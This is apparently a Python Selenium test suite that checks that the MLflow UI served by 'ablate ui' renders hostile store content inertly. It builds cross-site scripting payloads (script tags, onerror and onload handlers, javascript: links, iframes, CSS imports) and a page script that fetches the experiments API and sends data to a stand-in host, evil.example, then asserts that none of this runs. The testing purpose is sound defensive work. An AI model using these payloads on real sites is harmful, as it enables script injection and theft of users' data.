"""A store that somebody else made, in the MLflow UI of `ablate ui`: nothing of it runs or asks outside.

Every text of the store holds scripts, event handlers, javascript: links and addresses of a host
that no machine has. The browser takes every other host for a listener of this test, which counts
who was asked for.
"""

import contextlib
import json
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

pytest.importorskip("selenium", reason="Selenium is missing: pip install 'ablate[browser]'")

from mlflow.entities import Metric, Param
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.wait import WebDriverWait

from ablate.tracking.store import open_client
from tests.browser.conftest import PATIENCE_S, STUDY, Served, serving, started
from tests.command_line import typed

pytestmark = [pytest.mark.slow, pytest.mark.e2e]
EVIL = "evil.example"
EXPERIMENT = "of somebody else"
SHOWN = "what is seen of it"
SETTLE_S = 1.5  # for what a page does after it is shown
QUERY = "?workflowType=machine_learning"


def evil(name: str) -> str:
    """Return a text that tells `EVIL` its name, and marks the page, where anything of it runs."""
    code = f"window.hit='{name}';document.title='owned';fetch('http://{EVIL}/script-{name}')"
    return (
        f"{SHOWN} <script>{code}</script> <img src=http://{EVIL}/picture-{name}> "
        f'<img src=x onerror="{code}"> <svg onload="{code}"></svg> '
        f"![picture](http://{EVIL}/markdown-{name}.png) [link](javascript:{code}) "
        f'<iframe src="http://{EVIL}/frame-{name}"></iframe> <iframe srcdoc="<script>{code}'
        f"</script>\"></iframe> <a href='javascript:{code}'>link</a> "
        f"<link rel=stylesheet href=http://{EVIL}/sheet-{name}> "
        f"<style>@import url(http://{EVIL}/style-{name});</style>"
    )


def page_of_others(port: int) -> str:
    """Return an HTML page that tries to read and change the store, to ask outside, and to leave."""
    api = f"http://127.0.0.1:{port}/ajax-api/2.0/mlflow/experiments"
    return f"""<p>{evil("page")}</p><script>
try {{ top.hit = "frame" }} catch (error) {{}}
try {{ top.location = "http://{EVIL}/top" }} catch (error) {{}}
fetch("{api}/create", {{method: "POST", body: '{{"name": "made by a page"}}'}}).catch(() => 0);
fetch("{api}/search?max_results=9").then((answer) => answer.text())
  .then((text) => fetch("http://{EVIL}/stolen-" + text.length)).catch(() => 0);
setTimeout(() => {{ location = "http://{EVIL}/left" }}, 500);
</script>"""


def files(port: int) -> dict[str, str]:
    """Return the artifacts of a run: name -> text."""
    picture = {"type": "image", "filepath": f"http://{EVIL}/cell", "compressed_filepath": "../x"}
    table = {
        "columns": ["image", "output", evil("head")[:200]],
        "data": [[evil("cell"), picture, 1]],
    }
    place = {"type": "Feature", "properties": {"popupContent": evil("map")}}
    place["geometry"] = {"type": "Point", "coordinates": [0, 0]}
    return {
        "page.html": page_of_others(port),
        "picture.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1' width='9' "
        f"height='9'><script>top.hit=1</script><image href='http://{EVIL}/svg'/></svg>",
        "read.md": f"# {SHOWN}\n\n{evil('file')}",
        "text.txt": evil("text"),
        "values.json": json.dumps({"a": evil("json")}),
        "rows.csv": f'a,b\n"{evil("csv").replace(chr(34), chr(34) * 2)}",=1+1\n',
        "map.geojson": json.dumps({"type": "FeatureCollection", "features": [place]}),
        "<img src=x onerror=top.hit=1>.txt": SHOWN,
        "table.json": json.dumps(table),
    }


def fill(store: Path) -> None:
    """Write an experiment, a run and a model whose every text is hostile."""
    client = open_client(store, make=False)
    tags = {"mlflow.note.content": evil("experiment"), "mlflow.experimentKind": evil("kind")}
    location = (store / "artifacts" / "other").as_uri()
    experiment = client.create_experiment(EXPERIMENT, artifact_location=location, tags=tags)
    run = client.create_run(
        experiment,
        run_name=evil("name"),
        tags={
            "mlflow.note.content": f"# A note\n\n{evil('note')}",
            "mlflow.source.name": evil("source"),
            "mlflow.user": evil("user"),
            "mlflow.source.git.repoURL": "javascript:window.hit=1",
            "mlflow.source.git.commit": "javascript:window.hit=1",
            "mlflow.loggedArtifacts": json.dumps([{"path": "table.json", "type": "table"}]),
            "shown": evil("tag"),
        },
    ).info.run_id
    client.log_batch(run, params=[Param("p", evil("parameter"))], metrics=[Metric("m", 1, 1, 0)])
    client.set_terminated(run)
    client.create_registered_model("model", description=evil("model"), tags={"a": evil("of model")})


@pytest.fixture(scope="module")
def store(driver_path: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a store with a study of ours whose texts are hostile, and an experiment of others."""
    folder = tmp_path_factory.mktemp("hostile")
    text = STUDY.replace("Signed or magnitude gradients", json.dumps(evil("title")))
    text = text.replace('"Does the sign help?"', json.dumps(evil("asks")))
    (folder / "theirs.yaml").write_text(text)
    for words in (("run", "theirs.yaml", "executor=inline"), ("report", "theirs.yaml")):
        done = typed(*words, "--store", "store", cwd=folder)
        assert done.returncode == 0, done.stderr
    fill(folder / "store")
    return folder / "store"


@pytest.fixture(scope="module")
def theirs(store: Path) -> Iterator[Served]:
    for served in serving(store, study=EXPERIMENT):
        (run,) = served.client.search_runs([served.experiment])
        folder = store / "artifacts" / "other" / run.info.run_id / "artifacts"
        folder.mkdir(parents=True)
        for name, text in files(served.port).items():
            (folder / name).write_text(text)
        yield served


@pytest.fixture(scope="module")
def asked() -> Iterator[tuple[int, list[str]]]:
    """Listen, and return the port and a list of the first lines that name `EVIL`."""
    found: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:  # closed
                    return
                connection.settimeout(1)
                with connection, contextlib.suppress(OSError):
                    said = connection.recv(4096)  # of TLS too, the host is readable here
                    if EVIL.encode() in said:
                        found.append(said.split(b"\r\n")[0].decode("latin-1"))

        threading.Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1], found


@pytest.fixture(scope="module")
def looking(driver_path: str, asked: tuple[int, list[str]]) -> Iterator[Any]:
    rules = f"MAP * 127.0.0.1:{asked[0]}, EXCLUDE 127.0.0.1"
    browser = started(driver_path, f"--host-resolver-rules={rules}", width=1280)
    yield browser
    browser.quit()


def body(browser: Any) -> str:
    """Return the texts of the page, also those that have to be scrolled to."""
    return str(browser.execute_script("return document.body.textContent"))


@pytest.fixture
def look(
    theirs: Served, looking: Any, asked: tuple[int, list[str]], request: pytest.FixtureRequest
) -> Iterator[Callable[..., Any]]:
    """Return a function that opens a page, waits for texts, and asserts that nothing has run."""

    def at(place: str, *texts: str) -> Any:
        looking.get("about:blank")
        looking.get(f"{theirs.address}#/{place}")
        WebDriverWait(looking, PATIENCE_S).until(
            lambda seen: all(text in body(seen) for text in texts), f"{place} shows {texts}"
        )
        with contextlib.suppress(Exception):
            WebDriverWait(looking, SETTLE_S).until(lambda seen: asked[1])
        with pytest.raises(NoAlertPresentException):
            _ = looking.switch_to.alert.text
        assert looking.current_url.startswith(theirs.address)
        assert looking.execute_script("return window.hit ?? null") is None
        assert "owned" not in looking.title
        assert looking.find_elements(By.CSS_SELECTOR, '[href^="javascript:"], [onerror]') == []
        assert asked[1] == []
        names = {one.name for one in theirs.client.search_experiments()}
        assert names == {"Default", EXPERIMENT, "theirs"}
        return looking

    yield at
    asked[1].clear()


def test_the_listener_is_asked_where_a_page_asks_outside(
    looking: Any, asked: tuple[int, list[str]], tmp_path: Path
) -> None:
    (tmp_path / "page.html").write_text(evil("control"))
    looking.get((tmp_path / "page.html").as_uri())
    WebDriverWait(looking, PATIENCE_S).until(lambda seen: len(asked[1]) > 4)
    assert looking.title == "owned"
    looking.get("about:blank")
    asked[1].clear()


def test_the_list_of_experiments(look: Callable[..., Any]) -> None:
    look(f"experiments{QUERY}", EXPERIMENT, SHOWN)


@pytest.mark.parametrize("mode", ["TABLE", "CHART", "ARTIFACT"])
def test_the_runs(look: Callable[..., Any], theirs: Served, mode: str) -> None:
    look(f"experiments/{theirs.experiment}/runs{QUERY}&compareRunsMode={mode}", SHOWN)


def test_the_page_of_a_run_and_its_note(look: Callable[..., Any], theirs: Served) -> None:
    (run,) = theirs.client.search_runs([theirs.experiment])
    look(f"experiments/{theirs.experiment}/runs/{run.info.run_id}{QUERY}", "A note", SHOWN)


@pytest.mark.parametrize("name", files(1))
def test_an_artifact(look: Callable[..., Any], theirs: Served, name: str) -> None:
    (run,) = theirs.client.search_runs([theirs.experiment])
    place = f"experiments/{theirs.experiment}/runs/{run.info.run_id}/artifacts/{quote(name)}{QUERY}"
    browser = look(place, name)
    if name == "page.html":  # it was shown: its script ran, alone in its frame
        frame = browser.find_element(By.CSS_SELECTOR, "iframe")
        assert frame.get_attribute("sandbox") == "allow-scripts"


def test_a_registered_model(look: Callable[..., Any]) -> None:
    look("models/model", SHOWN)


def test_what_ablate_wrote_of_such_a_study_is_plain_text(
    look: Callable[..., Any], theirs: Served
) -> None:
    experiment = theirs.client.get_experiment_by_name("theirs").experiment_id
    runs = theirs.client.search_runs([experiment])
    (study,) = (run for run in runs if run.data.tags["ablate.kind"] == "study")
    (one, *_) = (run for run in runs if run.data.tags["ablate.kind"] == "run")
    picture = f"![picture](http://{EVIL}/markdown-"
    for run in (study, one):
        browser = look(f"experiments/{experiment}/runs/{run.info.run_id}{QUERY}", picture)
        assert browser.find_elements(By.CSS_SELECTOR, f'[src*="{EVIL}"], iframe') == []
    place = f"experiments/{experiment}/runs/{study.info.run_id}/artifacts/report/report.html{QUERY}"
    browser = look(place, "report.md")
    browser.switch_to.frame(browser.find_element(By.TAG_NAME, "iframe"))
    WebDriverWait(browser, PATIENCE_S).until(lambda seen: picture in body(seen), "its title")
    browser.switch_to.default_content()
